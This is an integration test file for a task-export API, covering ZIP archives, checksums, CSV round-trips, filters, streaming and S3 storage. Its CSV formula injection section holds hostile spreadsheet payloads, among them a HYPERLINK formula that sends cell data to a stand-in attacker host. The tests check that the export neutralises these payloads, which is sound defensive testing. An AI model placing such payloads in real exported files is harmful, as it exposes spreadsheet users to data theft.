// Your data out: a task's archive, the export ZIP of every matching task and
// tasks.csv, over real HTTP against `next start`, with files stored the real
// way (callbacks → downloads from a local file server). Archives are checked
// with the system's `unzip` and `sha256sum -c`, the CSV with csv-parse; once
// per database driver, and the archive once more from S3 storage.
import { execFileSync } from "node:child_process";
import fs from "node:fs";
import os from "node:os";
import path from "node:path";
import { parse } from "csv-parse/sync";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { makePng, makeWav } from "../scripts/lib/media";
import { allStored, sha256, waitForAssets } from "./helpers/assets";
import { coverFailure, coverSuccess, pool, wavSuccess } from "./helpers/callbacks";
import { describeEachDatabase, writeSql } from "./helpers/drivers";
import { bytes, startFileServer, type FileServer } from "./helpers/file-server";
import { taskDetail } from "./helpers/http";
import { uniqueTaskId } from "./helpers/ids";
import { startS3, type S3Server } from "./helpers/s3";
import { startServer, type TestServer } from "./helpers/server";
import { waitFor } from "./helpers/wait";

const MiB = 1024 * 1024;
const MANY = 20;
const BIG = 3;
const png0 = makePng(96, 64, 0);
const png1 = makePng(64, 96, 1);
const wav = makeWav(2);
// ~32 MiB each: an export long enough to cut off in the middle.
const bigWav = makeWav(190);
const FAILURE_MESSAGE = 'Cover failed: "bad seed", retry later,\nor contact support\r\n(code 501)';
const CSV_COLUMNS = [
  "taskId",
  "kind",
  "status",
  "stage",
  "code",
  "message",
  "parentTaskId",
  "audioId",
  "createdAt",
  "updatedAt",
  "completedAt",
  "lastSource",
  "deliveryCount",
  "pollCount",
  "lastPolledAt",
  "filesExpireAt",
  "assetsTotal",
  "assetsStored",
  "assetsFailed",
  "bytes",
];

const scratch: string[] = [];
afterAll(() => {
  for (const dir of scratch) fs.rmSync(dir, { recursive: true, force: true });
});

function tempDir(): string {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), "export-test-"));
  scratch.push(dir);
  return dir;
}

/** Downloads a ZIP, checks its headers, tests it with `unzip -t` and extracts it; answers the folder. */
async function unzipped(server: TestServer, pathname: string, fileName?: string): Promise<{ dir: string; zip: string }> {
  const res = await fetch(new URL(pathname, server.url)).catch((error: unknown) => {
    throw new Error(`GET ${pathname}: ${String(error)}\n${server.log().slice(-3000)}`);
  });
  if (res.status !== 200) throw new Error(`GET ${pathname}: ${res.status} ${await res.text()}`);
  expect(res.headers.get("content-type")).toBe("application/zip");
  expect(res.headers.get("content-disposition")).toMatch(
    fileName ? `attachment; filename="${fileName}"` : /^attachment; filename="[^"]+\.zip"$/,
  );
  const dir = tempDir();
  const zip = path.join(dir, "archive.zip");
  fs.writeFileSync(zip, Buffer.from(await res.arrayBuffer()));
  execFileSync("unzip", ["-tq", zip]);
  const out = path.join(dir, "out");
  execFileSync("unzip", ["-q", zip, "-d", out]);
  return { dir: out, zip };
}

/** Every file under `dir`, relative, sorted. */
function listFiles(dir: string): string[] {
  return fs
    .readdirSync(dir, { recursive: true, withFileTypes: true })
    .filter((e) => e.isFile())
    .map((e) => path.relative(dir, path.join(e.parentPath, e.name)))
    .sort();
}

/** `sha256sum -c SHA256SUMS` in `dir`: throws unless every line is OK. */
function checkSums(dir: string): string {
  return execFileSync("sha256sum", ["-c", "--strict", "SHA256SUMS"], { cwd: dir, encoding: "utf8" });
}

/** Name → compression method ("Stored", "Defl:N"), from `unzip -v`. */
function methods(zip: string): Map<string, string> {
  const lines = execFileSync("unzip", ["-v", zip], { encoding: "utf8" }).split("\n");
  const table = new Map<string, string>();
  for (const line of lines) {
    const m = /^\s*\d+\s+(Stored|Defl:\w)\s+\d+\s+\S+\s+\S+\s+\S+\s+[0-9a-f]{8}\s+(.+)$/.exec(line);
    if (m) table.set(m[2]!, m[1]!);
  }
  return table;
}

/** Bytes the process read (files, sockets, pipes), from /proc. */
const readBytes = (pid: number) => Number(/rchar:\s+(\d+)/.exec(fs.readFileSync(`/proc/${pid}/io`, "utf8"))![1]);
/** Files under `dir` the process holds open. */
function openFilesUnder(pid: number, dir: string): string[] {
  const fdDir = `/proc/${pid}/fd`;
  return fs
    .readdirSync(fdDir)
    .map((fd) => {
      try {
        return fs.readlinkSync(path.join(fdDir, fd));
      } catch {
        return ""; // closed meanwhile
      }
    })
    .filter((target) => target.startsWith(dir));
}

describeEachDatabase("export", (database) => {
  let server: TestServer;
  let files: FileServer;
  const run = uniqueTaskId("exp");
  // The small ones share `${run}-a-`, so filters can be tried on them alone.
  const cover = `${run}-a-cover`;
  const wavTask = `${run}-a-wav`;
  const failed = `${run}-a-failed`;
  const many = Array.from({ length: MANY }, (_, i) => `${run}-many-${String(i).padStart(2, "0")}`);
  const big = Array.from({ length: BIG }, (_, i) => `${run}-big-${i}`);

  beforeAll(async () => {
    files = await startFileServer();
    files.route("/cover-0.png", bytes(png0, "image/png"));
    files.route("/cover-1.png", bytes(png1, "image/png"));
    files.route("/song.wav", bytes(wav, "audio/wav"));
    files.route("/big.wav", bytes(bigWav, "audio/wav"));
    for (let i = 0; i < MANY; i++) files.route(`/many-${i}.png`, bytes(makePng(32, 32, i + 2), "image/png"));
    server = await startServer({ database, env: { DOWNLOAD_ALLOW_PRIVATE: "1" } });

    const send = async (body: unknown) => expect((await server.callback(body)).status).toBe(200);
    await send(coverSuccess(cover, [`${files.url}/cover-0.png`, `${files.url}/cover-1.png`]));
    await send(wavSuccess(wavTask, `${files.url}/song.wav`));
    await send(coverFailure(failed, 501, FAILURE_MESSAGE));
    await pool(MANY, 4, (i) => send(coverSuccess(many[i]!, [`${files.url}/many-${i}.png`])));
    await pool(BIG, 2, (i) => send(wavSuccess(big[i]!, `${files.url}/big.wav`)));
    for (const taskId of [cover, wavTask, ...many, ...big]) await waitForAssets(server, taskId, allStored, 60_000);
  });

  afterAll(async () => {
    await server?.close();
    await files?.close();
  });

  describe("GET /api/tasks/{taskId}/archive", () => {
    it("holds the stored files, metadata.json and SHA256SUMS that sha256sum -c accepts", async () => {
      const { dir, zip } = await unzipped(server, `/api/tasks/${cover}/archive`, `${cover}.zip`);
      expect(listFiles(dir)).toEqual(["SHA256SUMS", "cover-0.png", "cover-1.png", "metadata.json"]);
      const now = await taskDetail(server, cover);
      for (const [name, source] of [
        ["cover-0.png", png0],
        ["cover-1.png", png1],
      ] as const) {
        const file = fs.readFileSync(path.join(dir, name));
        expect(file.equals(source)).toBe(true);
        expect(sha256(file)).toBe(now.assets[Number(name.at(-5))]!.sha256);
      }
      const metadata = JSON.parse(fs.readFileSync(path.join(dir, "metadata.json"), "utf8"));
      expect(metadata.task).toEqual(now.task);
      expect(metadata.assets).toEqual(now.assets);
      expect(metadata.deliveries).toHaveLength(1);

      expect(checkSums(dir)).toBe("cover-0.png: OK\ncover-1.png: OK\nmetadata.json: OK\n");
      const sums = fs.readFileSync(path.join(dir, "SHA256SUMS"), "utf8");
      expect(sums).toContain(`${now.assets[0]!.sha256}  cover-0.png\n`);
      // Images are stored as they are; JSON is deflated.
      expect(methods(zip)).toEqual(
        new Map([
          ["cover-0.png", "Stored"],
          ["cover-1.png", "Stored"],
          ["metadata.json", "Defl:N"],
          ["SHA256SUMS", "Defl:N"],
        ]),
      );
    });

    it("names a WAV audio-0.wav, and a task without files has metadata and sums only", async () => {
      const wavDir = (await unzipped(server, `/api/tasks/${wavTask}/archive`, `${wavTask}.zip`)).dir;
      expect(listFiles(wavDir)).toEqual(["SHA256SUMS", "audio-0.wav", "metadata.json"]);
      expect(fs.readFileSync(path.join(wavDir, "audio-0.wav")).equals(wav)).toBe(true);
      checkSums(wavDir);

      const failedDir = (await unzipped(server, `/api/tasks/${failed}/archive`, `${failed}.zip`)).dir;
      expect(listFiles(failedDir)).toEqual(["SHA256SUMS", "metadata.json"]);
      expect(JSON.parse(fs.readFileSync(path.join(failedDir, "metadata.json"), "utf8")).task.message).toBe(FAILURE_MESSAGE);
      checkSums(failedDir);
    });

    it("answers 404 for an unknown task", async () => {
      const res = await fetch(new URL(`/api/tasks/${run}-nope/archive`, server.url));
      expect(res.status).toBe(404);
      expect(((await res.json()) as { error: { code: string } }).error.code).toBe("not_found");
    });
  });

  describe("GET /api/export", () => {
    it("exports many tasks as a folder each, plus tasks.csv", async () => {
      const { dir, zip } = await unzipped(server, `/api/export?q=${run}-many`);
      const folders = fs
        .readdirSync(dir, { withFileTypes: true })
        .filter((e) => e.isDirectory())
        .map((e) => e.name)
        .sort();
      expect(folders).toEqual([...many].sort());
      for (const [i, taskId] of many.entries()) {
        const folder = path.join(dir, taskId);
        expect(listFiles(folder)).toEqual(["SHA256SUMS", "cover-0.png", "metadata.json"]);
        expect(fs.readFileSync(path.join(folder, "cover-0.png")).equals(makePng(32, 32, i + 2))).toBe(true);
        expect(JSON.parse(fs.readFileSync(path.join(folder, "metadata.json"), "utf8")).task.taskId).toBe(taskId);
        checkSums(folder);
      }
      const rows: Record<string, string>[] = parse(fs.readFileSync(path.join(dir, "tasks.csv")), { columns: true });
      expect(rows.map((r) => r.taskId).sort()).toEqual([...many].sort());
      expect(methods(zip).get("tasks.csv")).toBe("Defl:N");
      expect(methods(zip).get(`${many[0]}/cover-0.png`)).toBe("Stored");
    });

    it("honours kind, status, from and to", async () => {
      const names = async (query: string) => {
        const { dir } = await unzipped(server, `/api/export?q=${run}-a-&${query}`);
        return fs.readdirSync(dir).sort();
      };
      expect(await names("kind=wav")).toEqual([wavTask, "tasks.csv"].sort());
      expect(await names("kind=cover")).toEqual([cover, failed, "tasks.csv"].sort());
      expect(await names("status=failed")).toEqual([failed, "tasks.csv"].sort());
      expect(await names("kind=cover&status=succeeded")).toEqual([cover, "tasks.csv"].sort());

      // The failed task made a year ago, as no endpoint can.
      expect(
        await writeSql(server, "update tasks set created_at = ? where task_id = ?", [Date.parse("2024-03-10T12:00:00Z"), failed]),
      ).toBe(1);
      expect(await names("from=2024-03-10&to=2024-03-11")).toEqual([failed, "tasks.csv"].sort());
      expect(await names("to=2024-03-10T12:00:00Z")).toEqual(["tasks.csv"]); // to is exclusive
      expect(await names("from=2024-03-10T12:00:00.000Z&to=2024-03-10T12:00:00.001Z")).toEqual([failed, "tasks.csv"].sort());
      expect(await names("from=2025-01-01")).toEqual([cover, wavTask, "tasks.csv"].sort());
      expect(await names("from=2025-01-01&status=failed")).toEqual(["tasks.csv"]);

      const bad = await fetch(new URL(`/api/export?from=yesterday`, server.url));
      expect(bad.status).toBe(400);
      expect(((await bad.json()) as { error: { code: string } }).error.code).toBe("invalid_request");
    });

    it("streams: first bytes before the files are read, and a client that goes away stops the work", async () => {
      const pid = server.pid()!;
      const before = readBytes(pid);
      const controller = new AbortController();
      const res = await fetch(new URL(`/api/export?q=${run}-big`, server.url), { signal: controller.signal });
      expect(res.status).toBe(200);
      const reader = res.body!.getReader();
      let received = 0;
      while (received < 2 * MiB) received += (await reader.read()).value!.length;
      // The first bytes came before even the first file was read through (~4 MiB read here).
      expect(readBytes(pid) - before).toBeLessThan(bigWav.length / 2);
      expect(openFilesUnder(pid, server.storageDir).length).toBeGreaterThan(0);

      controller.abort();
      // The open file stream is destroyed…
      await waitFor(
        () => openFilesUnder(pid, server.storageDir),
        (open) => open.length === 0,
        { timeoutMs: 5_000, stepMs: 50, what: "the export's file streams closed" },
      );
      // …and nothing more is read: a second of quiet (the worker's own polls read a few KiB).
      const afterAbort = readBytes(pid);
      await new Promise((r) => setTimeout(r, 1_000));
      expect(readBytes(pid) - afterAbort).toBeLessThan(MiB);
      // The later files were never read (~6 MiB in all here, of the export's ~96 MiB).
      expect(readBytes(pid) - before).toBeLessThan(bigWav.length);

      // Healthy, and quick to answer.
      const t0 = performance.now();
      expect((await fetch(new URL("/api/health", server.url))).status).toBe(200);
      expect(performance.now() - t0).toBeLessThan(1_000);
      expect(server.log()).not.toMatch(/\[export\].*failed/);
    });
  });

  describe("GET /api/export/tasks.csv", () => {
    it("round-trips every field, a message with commas, quotes and newlines too", async () => {
      const res = await fetch(new URL(`/api/export/tasks.csv?q=${run}`, server.url));
      expect(res.status).toBe(200);
      expect(res.headers.get("content-type")).toBe("text/csv; charset=utf-8");
      expect(res.headers.get("content-disposition")).toBe('attachment; filename="tasks.csv"');
      const text = await res.text();
      expect(text.startsWith(`${CSV_COLUMNS.join(",")}\r\n`)).toBe(true);
      const records: string[][] = parse(text);
      expect(records[0]).toEqual(CSV_COLUMNS);
      const rows = records.slice(1).map((r) => Object.fromEntries(CSV_COLUMNS.map((c, i) => [c, r[i]])));
      expect(rows).toHaveLength(3 + MANY + BIG);

      const listed = (await server.getJson<{ items: Record<string, unknown>[] }>(`/api/tasks?q=${run}&limit=200`)).body.items;
      expect(rows.map((r) => r.taskId)).toEqual(listed.map((t) => t.taskId));
      for (const [i, row] of rows.entries()) {
        expect(row).toEqual(Object.fromEntries(CSV_COLUMNS.map((c) => [c, listed[i]![c] === null ? "" : String(listed[i]![c])])));
      }
      expect(rows.find((r) => r.taskId === failed)!.message).toBe(FAILURE_MESSAGE);
    });

    it("honours the filters", async () => {
      const ids = async (query: string) => {
        const text = await (await fetch(new URL(`/api/export/tasks.csv?q=${run}&${query}`, server.url))).text();
        return (parse(text, { columns: true }) as { taskId: string }[]).map((r) => r.taskId).sort();
      };
      expect(await ids("kind=wav")).toEqual([wavTask, ...big].sort());
      expect(await ids("status=failed")).toEqual([failed]);
      expect(await ids("status=succeeded&kind=cover")).toEqual([cover, ...many].sort());
      expect(await ids(`q=${run}-nothing`)).toEqual([]);
    });
  });

  describe("CSV formula injection", () => {
    const marker = uniqueTaskId("inj");
    // What a spreadsheet would run as a formula (OWASP's list of first characters).
    const hostile = ['=HYPERLINK("https://evil.example/?x="&A1,"click")', "+1+2", "-1+2", "@SUM(A1:A9)", "\t=1+2", "\r=1+2"];
    const hostileId = (i: number) => `${marker}-${i}`;
    const dashId = `-${marker}-dash`;

    beforeAll(async () => {
      for (const [i, message] of hostile.entries())
        expect((await server.callback(coverFailure(hostileId(i), -1, message))).status).toBe(200);
      expect((await server.callback(coverFailure(dashId, 501, "a = b, not a formula"))).status).toBe(200);
    });

    const byId = (text: string) => new Map((parse(text, { columns: true }) as Record<string, string>[]).map((r) => [r.taskId!, r]));

    /** The rows the CSV alone and the export's tasks.csv hold, which must agree. */
    async function both(query: string): Promise<Map<string, Record<string, string>>> {
      const res = await fetch(new URL(`/api/export/tasks.csv?q=${marker}${query}`, server.url));
      expect(res.status).toBe(200);
      const alone = await res.text();
      const { dir } = await unzipped(server, `/api/export?q=${marker}${query}`);
      expect(fs.readFileSync(path.join(dir, "tasks.csv"), "utf8")).toBe(alone);
      return byId(alone);
    }

    it("neutralises a cell starting with =, +, -, @, tab or CR with a leading ' (numbers stay numbers)", async () => {
      const rows = await both("");
      for (const [i, message] of hostile.entries()) {
        expect(rows.get(hostileId(i))).toMatchObject({ message: `'${message}`, code: "-1" });
      }
      expect(rows.get(`'${dashId}`)).toMatchObject({ message: "a = b, not a formula", code: "501" });
      expect(rows.size).toBe(hostile.length + 1);
    });

    it("?raw=1 keeps the exact text, for round trips", async () => {
      const rows = await both("&raw=1");
      for (const [i, message] of hostile.entries()) expect(rows.get(hostileId(i))!.message).toBe(message);
      expect(rows.get(dashId)!.message).toBe("a = b, not a formula");
      expect((await fetch(new URL(`/api/export/tasks.csv?raw=yes`, server.url))).status).toBe(400);
    });
  });
});

describe("export from S3 storage", () => {
  let s3: S3Server;
  let server: TestServer;
  let files: FileServer;

  beforeAll(async () => {
    s3 = await startS3();
    files = await startFileServer();
    files.route("/cover-0.png", bytes(png0, "image/png"));
    files.route("/song.wav", bytes(wav, "audio/wav"));
    server = await startServer({ env: { ...s3.env, DOWNLOAD_ALLOW_PRIVATE: "1" } });
  });

  afterAll(async () => {
    await server?.close();
    await files?.close();
    await s3?.stop();
  });

  it("archives a task whose files are in a bucket, and exports it", async () => {
    const cover = uniqueTaskId("s3cover");
    const song = uniqueTaskId("s3wav");
    expect((await server.callback(coverSuccess(cover, [`${files.url}/cover-0.png`]))).status).toBe(200);
    expect((await server.callback(wavSuccess(song, `${files.url}/song.wav`))).status).toBe(200);
    await waitForAssets(server, cover, allStored);
    await waitForAssets(server, song, allStored);

    const { dir } = await unzipped(server, `/api/tasks/${cover}/archive`, `${cover}.zip`);
    expect(listFiles(dir)).toEqual(["SHA256SUMS", "cover-0.png", "metadata.json"]);
    expect(fs.readFileSync(path.join(dir, "cover-0.png")).equals(png0)).toBe(true);
    checkSums(dir);

    const exported = (await unzipped(server, "/api/export")).dir;
    expect(listFiles(exported)).toEqual(
      [
        `${cover}/SHA256SUMS`,
        `${cover}/cover-0.png`,
        `${cover}/metadata.json`,
        `${song}/SHA256SUMS`,
        `${song}/audio-0.wav`,
        `${song}/metadata.json`,
        "tasks.csv",
      ].sort(),
    );
    checkSums(path.join(exported, song));
  });
});
